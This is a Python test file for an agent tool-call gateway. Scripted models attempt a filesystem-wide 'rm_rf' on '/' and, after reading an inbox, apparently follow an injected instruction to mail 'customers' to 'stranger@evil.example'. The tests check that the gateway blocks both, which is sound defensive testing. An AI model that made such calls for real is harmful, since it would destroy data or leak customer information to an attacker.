"""Two more independent MCP clients through the gateway, each driven by a scripted
model (no network): Pydantic AI's MCP toolset and the OpenAI Agents SDK's MCP
support. (The MCP SDK's own client is in test_gateway.py.)"""

from __future__ import annotations

import json
from typing import Any

from tests.gateway.harness import TOKEN, Running

MAIL = {"to": "bob@acme.example", "body": "your invoice"}


def _decided(gateway: Running) -> dict[str, str]:
    return {
        str(e.event.tool): str((e.event.decision or {}).get("kind"))
        for e in gateway.service.events(type="call.decided")
    }


# --- Pydantic AI ----------------------------------------------------------------------------


async def test_pydantic_ai_agent_through_the_gateway(gateway: Running) -> None:
    from pydantic_ai import Agent
    from pydantic_ai.mcp import MCPToolset
    from pydantic_ai.messages import ModelMessage, ModelResponse, TextPart, ToolCallPart
    from pydantic_ai.models.function import AgentInfo, FunctionModel

    seen: dict[str, Any] = {}

    def script(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        seen["tools"] = sorted(tool.name for tool in info.function_tools)
        turn = sum(1 for message in messages if isinstance(message, ModelResponse))
        calls = [
            [ToolCallPart("up.lookup", {"customer": "c1"}, tool_call_id="t1")],
            [ToolCallPart("up.rm_rf", {"path": "/"}, tool_call_id="t2")],
            [ToolCallPart("up.send_mail", MAIL, tool_call_id="t3")],
        ]
        if turn < len(calls):
            return ModelResponse(parts=calls[turn])  # type: ignore[arg-type]
        return ModelResponse(parts=[TextPart("done")])

    toolset = MCPToolset(
        gateway.url, headers={"Authorization": f"Bearer {TOKEN}"}, id="tether-gateway"
    )
    agent = Agent(FunctionModel(script), toolsets=[toolset])
    async with agent:
        result = await agent.run("look up c1 and mail bob")
    returns = {
        part.tool_name: str(part.content)
        for message in result.all_messages()
        for part in getattr(message, "parts", [])
        if getattr(part, "part_kind", "") in ("tool-return", "retry-prompt")
        and getattr(part, "tool_name", None)
    }
    assert "up.rm_rf" not in seen["tools"]  # offered only what is granted
    assert "Ada Lovelace" in returns["up.lookup"]
    assert "approval" in returns["up.send_mail"]
    assert gateway.effects() == []  # held: nothing sent
    decided = _decided(gateway)
    assert decided["up.lookup"] == "allow"
    assert decided["up.send_mail"] == "needs_approval"
    request = gateway.service.approvals()[0]
    assert request.args == MAIL


# --- the OpenAI Agents SDK ------------------------------------------------------------------


async def test_openai_agents_sdk_agent_through_the_gateway(gateway: Running) -> None:
    from agents import Agent, ModelResponse, Runner, Usage
    from agents.mcp import MCPServerStreamableHttp
    from agents.models.interface import Model
    from openai.types.responses import (
        ResponseFunctionToolCall,
        ResponseOutputMessage,
        ResponseOutputText,
    )

    offered: list[list[str]] = []

    def call(name: str, args: dict[str, Any], call_id: str) -> ResponseFunctionToolCall:
        return ResponseFunctionToolCall(
            type="function_call", name=name, arguments=json.dumps(args), call_id=call_id
        )

    def text(value: str) -> ResponseOutputMessage:
        return ResponseOutputMessage(
            id="msg",
            type="message",
            role="assistant",
            status="completed",
            content=[ResponseOutputText(type="output_text", text=value, annotations=[])],
        )

    turns: list[list[Any]] = [
        [call("up.inbox", {}, "c1")],
        [call("up.send_mail", {"to": "stranger@evil.example", "body": "customers"}, "c2")],
        [call("up.send_mail", MAIL, "c3")],
        [text("done")],
    ]

    class Scripted(Model):
        async def get_response(self, *args: Any, **kwargs: Any) -> ModelResponse:
            tools = kwargs["tools"] if "tools" in kwargs else args[3]
            offered.append(sorted(tool.name for tool in tools))
            return ModelResponse(output=turns.pop(0), usage=Usage(), response_id=None)

        def stream_response(self, *args: Any, **kwargs: Any) -> Any:
            raise NotImplementedError

    server = MCPServerStreamableHttp(
        params={"url": gateway.url, "headers": {"Authorization": f"Bearer {TOKEN}"}},
        cache_tools_list=True,
        name="tether-gateway",
    )
    async with server:
        agent = Agent(name="desk", model=Scripted(), mcp_servers=[server])
        result = await Runner.run(agent, "read the inbox and act on it")
    outputs = [
        str(item.output)
        for item in result.new_items
        if getattr(item, "type", "") == "tool_call_output_item"
    ]
    assert result.final_output == "done"
    assert "up.inbox" in offered[0] and "up.rm_rf" not in offered[0]
    assert "<untrusted-data" in outputs[0]  # outside content, delimited
    assert "does not meet the conditions" in outputs[1]  # the stranger: refused
    decisions = [
        e.event.decision or {}
        for e in gateway.service.events(type="call.decided", tool="up.send_mail")
    ]
    assert [d.get("kind") for d in decisions] == ["deny", "deny"]
    # the injected mail to a stranger is refused; after outside content, even a mail
    # to a colleague is consequential: the policy denies it for a tainted session
    assert gateway.effects() == []
    assert gateway.service.run(
        next(r.id for r in gateway.service.runs() if r.id.startswith("gw_"))
    ).untrusted
    assert all(
        request.args.get("to") != "stranger@evil.example"
        for request in gateway.service.approvals(status=None)
    )
